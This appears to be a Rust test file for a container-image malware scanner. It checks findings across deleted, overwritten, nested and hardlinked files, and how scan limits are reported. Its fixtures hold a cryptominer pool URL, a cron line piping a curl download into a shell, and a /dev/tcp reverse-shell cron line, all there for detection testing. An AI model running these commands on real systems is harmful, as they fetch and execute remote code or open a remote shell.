//! Content scanning end to end on images built in code: findings in every file version and in
//! archives nested inside files, with exact locations; and every per-file bound (bytes, time,
//! nesting depth, nested bytes and members, unreadable members) recorded as not scanned.

mod common;

use std::io::{Read, Write};
use std::path::PathBuf;
use std::time::Duration;

use common::build::{gzip, layer_tar, oci_archive, raw_tar, write_temp, zip};
use layerhound::layer::{self, ContentSink, EntryLocation, LayerSink, LayerSinks};
use layerhound::limits::Limits;
use layerhound::scan::yara::RuleSet;
use layerhound::scan::{ContentScanner, Engines};
use layerhound::ScanOptions;
use serde_json::Value;
use tar::EntryType::{Continuous, Link, Regular};

const POOL: &[u8] = b"{\"url\": \"stratum+tcp://pool.example.net:3333\"}";
const NESTED_POOL: &[u8] = b"pool = stratum+ssl://mine.example.org:443\n";

/// /opt/app.tgz: a tar.gz holding lib/x.jar, a zip holding config.json with a pool URL.
fn app_tgz() -> Vec<u8> {
    let jar = zip(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n"), ("config.json", NESTED_POOL)]);
    gzip(&layer_tar(&[("lib/x.jar", &jar)]))
}

fn scan_image(layers: &[Vec<u8>], limits: Limits, rule_files: &[PathBuf]) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let archive = oci_archive(&layers.iter().map(|tar| (tar.clone(), tar.clone())).collect::<Vec<_>>());
    let path = write_temp(&dir, "image.tar", &archive);
    let rules = RuleSet::compile(rule_files, rule_files.is_empty()).unwrap();
    let scanner = ContentScanner::new(Engines::new(&rules, None), &limits);
    let options = ScanOptions { limits: Limits { spill_dir: Some(dir.path().to_path_buf()), ..limits }, ..ScanOptions::default() };
    serde_json::to_value(layerhound::scan(&[path], &options, &scanner, &mut |_| {})).unwrap()
}

fn image(report: &Value) -> &Value {
    &report["inputs"][0]["images"][0]
}

/// (rule, path, nested chain, state, layer) of every finding location.
fn found(report: &Value) -> Vec<(String, String, Vec<String>, String, u64)> {
    let mut all = Vec::new();
    for finding in image(report)["findings"].as_array().unwrap() {
        for location in finding["locations"].as_array().unwrap() {
            all.push((
                finding["detector"]["rule"].as_str().unwrap().to_string(),
                location["path"].as_str().unwrap().to_string(),
                location["nested"].as_array().map(|n| n.iter().map(|m| m.as_str().unwrap().to_string()).collect()).unwrap_or_default(),
                location["state"].as_str().unwrap().to_string(),
                location["layer"].as_u64().unwrap(),
            ));
        }
    }
    all.sort();
    all
}

/// (kind, what) of every file-level not_scanned record.
fn gaps(report: &Value) -> Vec<(String, String)> {
    let mut all: Vec<_> = image(report)["not_scanned"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["kind"].is_string())
        .map(|n| (n["kind"].as_str().unwrap().to_string(), n["what"].as_str().unwrap().to_string()))
        .collect();
    all.sort();
    all
}

fn chain(members: &[&str]) -> Vec<String> {
    members.iter().map(|m| m.to_string()).collect()
}

#[test]
fn findings_cover_present_deleted_overwritten_and_nested_versions_with_their_locations() {
    let tgz = app_tgz();
    let base =
        layer_tar(&[("opt/", b""), ("opt/miner.json", POOL), ("opt/app.tgz", &tgz), ("opt/run.sh", POOL), ("opt/clean.txt", b"hello")]);
    let top = layer_tar(&[("opt/.wh.miner.json", b""), ("opt/run.sh", b"#!/bin/sh\nexec app\n")]);
    let report = scan_image(&[base, top], Limits::default(), &[]);
    let rule = "miner_stratum_pool_url".to_string();
    assert_eq!(
        found(&report),
        vec![
            (rule.clone(), "/opt/app.tgz".into(), chain(&["app.tar", "lib/x.jar", "config.json"]), "present".into(), 0),
            (rule.clone(), "/opt/miner.json".into(), vec![], "deleted".into(), 0),
            (rule.clone(), "/opt/run.sh".into(), vec![], "overwritten".into(), 0),
        ]
    );
    // The same bytes at two paths are one finding with both locations.
    let findings = image(&report)["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 2, "{findings:#?}");
    let direct = findings.iter().find(|f| f["locations"].as_array().unwrap().len() == 2).expect("one finding, two locations");
    assert_eq!(direct["blob_sha256"], common::build::sha(POOL));
    assert_eq!(direct["severity"], "high");
    assert_eq!(direct["category"], "cryptominer");
    assert_eq!(direct["matches"][0]["offset"], 9);
    assert_eq!(direct["matches"][0]["data"], "stratum+tcp://pool.example.net:3333");
    assert!(direct["locations"][0]["diff_id"].as_str().unwrap().starts_with("sha256:"));
    // Each hidden version says what hid it and where; a present one says nothing.
    let hidden_by = |path: &str| {
        let all = findings.iter().flat_map(|f| f["locations"].as_array().unwrap());
        all.filter(|l| l["path"] == path).map(|l| l["hidden_by"].clone()).next().unwrap()
    };
    assert_eq!(hidden_by("/opt/miner.json"), serde_json::json!({"layer": 1, "cause": "whiteout"}));
    assert_eq!(hidden_by("/opt/run.sh"), serde_json::json!({"layer": 1, "cause": "overwritten"}));
    assert_eq!(hidden_by("/opt/app.tgz"), Value::Null);
    assert_eq!(gaps(&report), vec![]);
    assert_eq!(report["complete"], true);
    assert_eq!(report["content_scan"]["engine"], "yara-x");
    assert_eq!(report["summary"]["findings"], 2);
}

#[test]
fn a_file_over_the_scan_limit_is_scanned_in_part_and_listed() {
    let mut big = vec![b'a'; 100_000];
    big.extend_from_slice(POOL);
    let mut early = POOL.to_vec();
    early.extend(vec![b'b'; 100_000]);
    let layer = layer_tar(&[("late.bin", &big), ("early.bin", &early)]);
    let limits = Limits { max_scan_bytes: 64 << 10, ..Limits::default() };
    let report = scan_image(&[layer], limits, &[]);
    // The match inside the scanned prefix is reported; the one past it cannot be.
    assert_eq!(found(&report).iter().map(|f| f.1.as_str()).collect::<Vec<_>>(), vec!["/early.bin"]);
    assert_eq!(gaps(&report), vec![("truncated".into(), "/early.bin".into()), ("truncated".into(), "/late.bin".into())]);
    let record = image(&report)["not_scanned"].as_array().unwrap().iter().find(|n| n["what"] == "/late.bin").unwrap().clone();
    assert_eq!(record["reason"], "scanned the first 65536 of 100046 bytes (--max-scan-bytes)");
    assert_eq!(record["state"], "present");
    assert_eq!(report["complete"], false);
    assert!(image(&report)["anomalies"].as_array().unwrap().iter().any(|a| a["kind"] == "scan-truncated"));
}

#[test]
fn archives_nested_deeper_than_the_limit_are_not_opened_and_say_so() {
    let layer = layer_tar(&[("opt/app.tgz", &app_tgz())]);
    let limits = Limits { max_nested_depth: 2, ..Limits::default() };
    let report = scan_image(&[layer], limits, &[]);
    assert_eq!(found(&report), vec![]);
    assert_eq!(gaps(&report), vec![("nested-depth".into(), "/opt/app.tgz!/app.tar!/lib/x.jar".into())]);
    let record = &image(&report)["not_scanned"].as_array().unwrap().iter().find(|n| n["kind"] == "nested-depth").unwrap().clone();
    assert_eq!(record["nested"], serde_json::json!(["app.tar", "lib/x.jar"]));
}

#[test]
fn nested_byte_and_member_budgets_stop_a_zip_bomb_and_say_where() {
    let zeros = vec![0u8; 4 << 20];
    let bomb = zip(&[("a.bin", &zeros), ("b.bin", &zeros), ("c.json", POOL)]);
    let layer = layer_tar(&[("bomb.zip", &bomb)]);
    let bytes = scan_image(std::slice::from_ref(&layer), Limits { max_nested_bytes: 5 << 20, ..Limits::default() }, &[]);
    assert_eq!(gaps(&bytes), vec![("nested-bytes".into(), "/bomb.zip".into()), ("nested-bytes".into(), "/bomb.zip!/b.bin".into()),]);
    let reasons: Vec<_> =
        image(&bytes)["not_scanned"].as_array().unwrap().iter().map(|n| n["reason"].as_str().unwrap().to_string()).collect();
    assert!(reasons.iter().any(|r| r.starts_with("members from c.json on not opened")), "{reasons:?}");
    assert!(
        reasons.iter().any(|r| r == "scanned the first 1048576 bytes only: the file's nested-archive budget ran out (--max-nested-bytes)"),
        "{reasons:?}"
    );

    let members = scan_image(&[layer], Limits { max_nested_members: 1, ..Limits::default() }, &[]);
    assert_eq!(gaps(&members), vec![("nested-members".into(), "/bomb.zip".into())]);
    assert_eq!(found(&members), vec![]);
}

#[test]
fn corrupt_cut_and_encrypted_archives_are_listed_and_the_rest_is_scanned() {
    let good = zip(&[("ok.json", POOL)]);
    // The central directory promises a member whose local header is overwritten; the member
    // before it is still read.
    let mut corrupt = zip(&[("x.txt", NESTED_POOL), ("y.json", POOL)]);
    let damaged_at = corrupt.windows(6).position(|w| w == b"y.json").unwrap() - 30;
    corrupt[damaged_at..damaged_at + 4].copy_from_slice(b"XXXX");
    let truncated_gzip = gzip(POOL)[..12].to_vec();
    // The encryption flag (bit 0 of the general purpose flags) in the local and central headers.
    let mut encrypted = zip(&[("secret.json", POOL)]);
    encrypted[6] |= 1;
    let central = encrypted.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    encrypted[central + 8] |= 1;
    let layer = layer_tar(&[("good.jar", &good), ("bad.jar", &corrupt), ("cut.gz", &truncated_gzip), ("locked.zip", &encrypted)]);
    let report = scan_image(&[layer], Limits::default(), &[]);
    assert_eq!(
        found(&report),
        vec![
            ("miner_stratum_pool_url".into(), "/bad.jar".into(), chain(&["x.txt"]), "present".into(), 0),
            ("miner_stratum_pool_url".into(), "/good.jar".into(), chain(&["ok.json"]), "present".into(), 0),
        ]
    );
    assert_eq!(
        gaps(&report),
        vec![
            ("unreadable".into(), "/bad.jar".into()),
            ("unreadable".into(), "/cut.gz!/cut".into()),
            ("unreadable".into(), "/locked.zip".into())
        ]
    );
    let locked = image(&report)["not_scanned"].as_array().unwrap().iter().find(|n| n["what"] == "/locked.zip").unwrap().clone();
    assert!(locked["reason"].as_str().unwrap().contains("zip member 0 not read"), "{locked}");
}

#[test]
fn a_rule_that_runs_past_the_timeout_is_stopped_and_the_file_listed() {
    let dir = tempfile::tempdir().unwrap();
    let slow = dir.path().join("slow.yar");
    std::fs::write(
        &slow,
        "rule quadratic { condition: for all i in (0..filesize) : ( for all j in (0..filesize) : ( uint8(i) != 0xff or uint8(j) != 0xfe ) ) }\n\
         rule quick { strings: $a = \"quick-marker\" condition: $a }\n",
    )
    .unwrap();
    let layer = layer_tar(&[("slow.bin", &vec![0u8; 1 << 20]), ("quick.txt", b"quick-marker")]);
    let limits = Limits { scan_timeout: Duration::from_secs(1), ..Limits::default() };
    let report = scan_image(&[layer], limits, &[slow]);
    assert_eq!(gaps(&report), vec![("timeout".into(), "/slow.bin".into())]);
    assert_eq!(found(&report), vec![("quick".into(), "/quick.txt".into(), vec![], "present".into(), 0)]);
    assert_eq!(report["complete"], false);
    assert_eq!(report["content_scan"]["builtin_pack"], false);
}

/// A sink that fails on one file: the layer records it and reads on.
struct PanicsOn(&'static [u8]);

struct PanicsOnLayer(&'static [u8], usize);

impl ContentSink for PanicsOn {
    fn session<'b>(&self, read: &mut dyn FnMut(&dyn LayerSinks<'b>)) {
        read(self);
    }
}

impl<'b> LayerSinks<'b> for PanicsOn {
    fn layer(&self) -> Box<dyn LayerSink<'b> + '_> {
        Box::new(PanicsOnLayer(self.0, 0))
    }
}

impl LayerSink<'_> for PanicsOnLayer {
    fn file(&mut self, location: &EntryLocation<'_>, content: &mut dyn Read, _: Option<&[u8]>) {
        self.1 += 1;
        assert_ne!(location.path, self.0, "a scanner bug");
        std::io::copy(content, &mut std::io::sink()).unwrap();
    }
}

#[test]
fn a_scanner_that_panics_on_one_file_costs_that_file_only() {
    let tar = layer_tar(&[("a", b"1"), ("boom", b"2"), ("c", b"3")]);
    let data = layer::read("layer", &tar, &Limits::default(), &PanicsOn(b"boom"));
    assert_eq!(data.entries.len(), 3);
    assert!(data.entries.iter().all(|e| e.meta.sha256.is_some()), "the reader still hashes the file the scanner failed on");
    assert!(data.anomalies.iter().any(|a| a.kind == "scanner-panic"));
    assert_eq!(data.not_scanned, vec!["entry 1 (boom): scanner failure".to_string()]);
    assert!(data.error.is_none());
}

#[test]
fn a_zip_whose_directory_lists_far_more_members_than_may_be_read_is_not_opened() {
    let names: Vec<String> = (0..25).map(|i| format!("m{i}.txt")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), POOL)).collect();
    let layer = layer_tar(&[("many.zip", &zip(&members))]);
    let report = scan_image(&[layer], Limits { max_nested_members: 2, ..Limits::default() }, &[]);
    assert_eq!(found(&report), vec![]);
    let records = image(&report)["not_scanned"].as_array().unwrap().clone();
    assert_eq!(records.len(), 1, "{records:#?}");
    assert_eq!(records[0]["kind"], "nested-members");
    assert_eq!(records[0]["reason"], "zip not opened: 25 central-directory records, over 20 (10 × --max-nested-members)");
}

#[test]
fn archives_that_hide_members_are_opened_or_reported() {
    // A zip behind a shebang line (Python zipapp, executable jar).
    let mut zipapp = b"#!/usr/bin/env python3\n".to_vec();
    zipapp.extend(zip(&[("__main__.py", b"print('hi')\n"), ("conf/pool.txt", POOL)]));
    // Two records with one name: the zip reader keeps only the last.
    let mut twins = zip(&[("a.json", POOL), ("b.json", b"{}")]);
    for at in memchr_all(&twins, b"b.json") {
        twins[at] = b'a';
    }
    // A contiguous-file member ('7'), which GNU tar extracts as a regular file, holding a gzip.
    let contiguous = raw_tar(&[(b"inner/run.gz", Continuous, &gzip(NESTED_POOL), b"")]);
    // gzip with a wrong CRC: what inflated before the check failed is still scanned.
    let mut bad_crc = gzip(NESTED_POOL);
    let crc_at = bad_crc.len() - 8;
    bad_crc[crc_at] ^= 0xff;
    let mut xz = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(1)).unwrap();
    xz.write_all(&layer_tar(&[("etc/pool.conf", NESTED_POOL)])).unwrap();
    let xz = xz.finish().unwrap();
    let mut bz2 = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::fast());
    bz2.write_all(NESTED_POOL).unwrap();
    let bz2 = bz2.finish().unwrap();
    let seven_zip = b"7z\xbc\xaf\x27\x1c\x00\x04rest-of-a-7z-archive".to_vec();
    let layer = layer_tar(&[
        ("app.pyz", &zipapp),
        ("twins.zip", &twins),
        ("c.tar", &contiguous),
        ("crc.gz", &bad_crc),
        ("rel.tar.xz", &xz),
        ("notes.bz2", &bz2),
        ("backup.7z", &seven_zip),
    ]);
    let report = scan_image(&[layer], Limits::default(), &[]);
    let nested: Vec<_> = found(&report).into_iter().filter(|f| !f.2.is_empty()).map(|f| (f.1, f.2)).collect();
    assert_eq!(
        nested,
        vec![
            ("/app.pyz".to_string(), chain(&["conf/pool.txt"])),
            ("/c.tar".to_string(), chain(&["inner/run.gz", "run"])),
            ("/crc.gz".to_string(), chain(&["crc"])),
            ("/notes.bz2".to_string(), chain(&["notes"])),
            ("/rel.tar.xz".to_string(), chain(&["rel.tar"])),
            ("/rel.tar.xz".to_string(), chain(&["rel.tar", "etc/pool.conf"])),
        ]
    );
    let reasons: Vec<(String, String)> = image(&report)["not_scanned"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| (n["what"].as_str().unwrap().to_string(), n["reason"].as_str().unwrap().to_string()))
        .collect();
    let reason_of = |what: &str| reasons.iter().find(|(w, _)| w == what).map(|(_, r)| r.clone()).unwrap_or_default();
    assert_eq!(reason_of("/twins.zip"), "1 of 2 central-directory records not read: they repeat the name of a later record");
    assert_eq!(reason_of("/backup.7z"), "7z archive not opened: 7z is not supported");
    assert!(reason_of("/crc.gz!/crc").starts_with(&format!("read {} bytes, then: ", NESTED_POOL.len())), "{reasons:?}");
}

#[test]
fn unreadable_members_and_huge_names_stay_small_in_the_report() {
    let names: Vec<String> = (0..20).map(|i| format!("m{i:02}.txt")).collect();
    let members: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), b"text".as_slice())).collect();
    let mut broken = zip(&members);
    // Every local header is damaged: each member fails on its own.
    for at in memchr_all(&broken, b"PK\x03\x04") {
        broken[at + 2] = b'X';
    }
    let long_name = "d/".repeat(3000) + "pool.conf";
    let mut builder = tar::Builder::new(Vec::new());
    let mut header = tar::Header::new_gnu();
    header.set_mode(0o644);
    header.set_size(NESTED_POOL.len() as u64);
    builder.append_data(&mut header, &long_name, NESTED_POOL).unwrap();
    let long = builder.into_inner().unwrap();
    let layer = layer_tar(&[("broken.zip", &broken), ("long.tar", &long)]);
    let report = scan_image(&[layer], Limits::default(), &[]);
    let broken_gaps: Vec<String> = image(&report)["not_scanned"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|n| n["what"] == "/broken.zip")
        .map(|n| n["reason"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(broken_gaps.len(), 9, "{broken_gaps:#?}");
    assert_eq!(broken_gaps[8], "12 more zip members not read");
    let nested_name = found(&report).into_iter().find(|f| f.1 == "/long.tar" && !f.2.is_empty()).expect("a finding in the member").2;
    assert_eq!(nested_name.len(), 1);
    assert!(nested_name[0].len() < 1100 && nested_name[0].ends_with(&format!("…({} bytes)", long_name.len())), "{}", nested_name[0]);
}

fn memchr_all(haystack: &[u8], needle: &[u8]) -> Vec<usize> {
    haystack.windows(needle.len()).enumerate().filter(|(_, w)| *w == needle).map(|(i, _)| i).collect()
}

#[test]
fn matches_in_bytes_no_filesystem_shows_and_in_hardlinks_say_where_the_bytes_are() {
    let base = layer_tar(&[("opt/", b""), ("opt/cfg", b"plain"), ("tmp/job", POOL)]);
    // A whiteout marker with a body (only its name matters to the overlay), and a hardlink to
    // a lower layer's file.
    let top = raw_tar(&[(b"opt/.wh.cfg", Regular, NESTED_POOL, b""), (b"etc/job", Link, b"", b"tmp/job")]);
    let report = scan_image(&[base, top], Limits::default(), &[]);
    assert_eq!(
        found(&report),
        vec![
            ("miner_stratum_pool_url".into(), "/etc/job".into(), vec![], "present".into(), 1),
            ("miner_stratum_pool_url".into(), "/opt/.wh.cfg".into(), vec![], "deleted".into(), 1),
            ("miner_stratum_pool_url".into(), "/tmp/job".into(), vec![], "present".into(), 0),
        ]
    );
    let locations: Vec<Value> =
        image(&report)["findings"].as_array().unwrap().iter().flat_map(|f| f["locations"].as_array().unwrap().clone()).collect();
    let hardlink = locations.iter().find(|l| l["path"] == "/etc/job").unwrap();
    assert_eq!(hardlink["content_layer"], 0);
    let marker = locations.iter().find(|l| l["path"] == "/opt/.wh.cfg").unwrap();
    assert!(marker["note"].as_str().unwrap().contains("never in a filesystem"), "{marker}");
    assert!(locations.iter().filter(|l| l["path"] != "/opt/.wh.cfg").all(|l| l["note"].is_null()));
}

#[test]
fn rules_that_test_the_path_see_a_hardlinks_own_name() {
    // The cron line is stored under /tmp; cron reads it through a hardlink in /etc/cron.d.
    let job: &[u8] = b"*/5 * * * * root curl -fsSL http://203.0.113.5/u.sh | sh\n";
    let base = layer_tar(&[("tmp/job", job)]);
    let top = raw_tar(&[(b"etc/cron.d/job", Link, b"", b"tmp/job")]);
    let report = scan_image(&[base, top], Limits::default(), &[]);
    let cron: Vec<_> = found(&report).into_iter().filter(|f| f.0 == "persistence_cron_network").collect();
    assert_eq!(cron, vec![("persistence_cron_network".into(), "/etc/cron.d/job".into(), vec![], "present".into(), 1)]);
    // A rule on the bytes alone has both names, once each.
    let pipe: Vec<_> = found(&report).into_iter().filter(|f| f.0 == "downloader_pipe_to_shell").map(|f| f.1).collect();
    assert_eq!(pipe, vec!["/etc/cron.d/job".to_string(), "/tmp/job".to_string()]);
}

#[test]
fn a_layer_read_again_keeps_its_findings_and_is_not_scanned_twice() {
    let base = layer_tar(&[("a/pool.json", POOL), ("a/x", b"x")]);
    let top = layer_tar(&[("b/pool.conf", NESTED_POOL), ("b/y", b"y")]);
    let archive = oci_archive(&[(base.clone(), base), (top.clone(), top)]);
    let dir = tempfile::tempdir().unwrap();
    // The same blobs in two tarballs of one run, and a budget that makes the second tarball's
    // layers be read twice (the parallel read runs out, then they are read one by one).
    let paths = [write_temp(&dir, "one.tar", &archive), write_temp(&dir, "two.tar", &archive)];
    let rules = RuleSet::compile(&[], true).unwrap();
    let scanner = ContentScanner::new(Engines::new(&rules, None), &Limits::default());
    let report = serde_json::to_value(layerhound::scan(&paths, &ScanOptions::default(), &scanner, &mut |_| {})).unwrap();
    let tight = Limits { max_entries: 3, ..Limits::default() };
    let again = serde_json::to_value(layerhound::scan(
        &paths[1..],
        &ScanOptions { limits: tight, ..ScanOptions::default() },
        &scanner,
        &mut |_| {},
    ))
    .unwrap();
    let paths_found = |input: &Value| -> Vec<String> {
        let mut all: Vec<String> = input["images"][0]["findings"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|f| f["locations"].as_array().unwrap().iter().map(|l| l["path"].as_str().unwrap().to_string()))
            .collect();
        all.sort();
        all
    };
    let both = vec!["/a/pool.json".to_string(), "/b/pool.conf".to_string()];
    assert_eq!(paths_found(&report["inputs"][0]), both);
    assert_eq!(paths_found(&report["inputs"][1]), both, "the second tarball's layers were scanned by the first");
    assert_eq!(paths_found(&again["inputs"][0]), both, "read again under an entry budget");
    assert_eq!(again["complete"], false, "the budget cut an entry");
    // Four files in two blobs: scanned once, whichever tarball or read reaches them.
    assert_eq!(scanner.files_scanned(), 4);
}

#[test]
fn a_threat_only_in_commented_out_lines_is_reported_low_and_says_so() {
    let shell = "* * * * * root bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";
    let layer = layer_tar(&[
        ("etc/cron.d/active", format!("SHELL=/bin/sh\n{shell}").as_bytes()),
        ("etc/cron.d/disabled", format!("SHELL=/bin/sh\n  # {shell}").as_bytes()),
        ("etc/cron.d/trailing", format!("echo ok # {shell}").as_bytes()),
    ]);
    let report = scan_image(&[layer], Limits::default(), &[]);
    let by_path = |path: &str| -> Vec<(String, String, String)> {
        let findings = image(&report)["findings"].as_array().unwrap();
        findings
            .iter()
            .filter(|f| f["detector"]["rule"] == "reverse_shell_dev_tcp" && f["locations"][0]["path"] == path)
            .map(|f| {
                let field = |name: &str| f[name].as_str().unwrap().to_string();
                (field("severity"), field("confidence"), field("description"))
            })
            .collect()
    };
    let active = by_path("/etc/cron.d/active");
    assert_eq!(active.len(), 1, "{active:?}");
    assert_eq!(active[0].0, "critical");
    let disabled = by_path("/etc/cron.d/disabled");
    assert_eq!(disabled.len(), 1, "{disabled:?}");
    assert_eq!((disabled[0].0.as_str(), disabled[0].1.as_str()), ("low", "low"));
    assert!(disabled[0].2.contains("commented-out"), "{}", disabled[0].2);
    // After a command, the comment marker does not make the line a comment: the rule stands.
    assert_eq!(by_path("/etc/cron.d/trailing")[0].0, "critical");
}
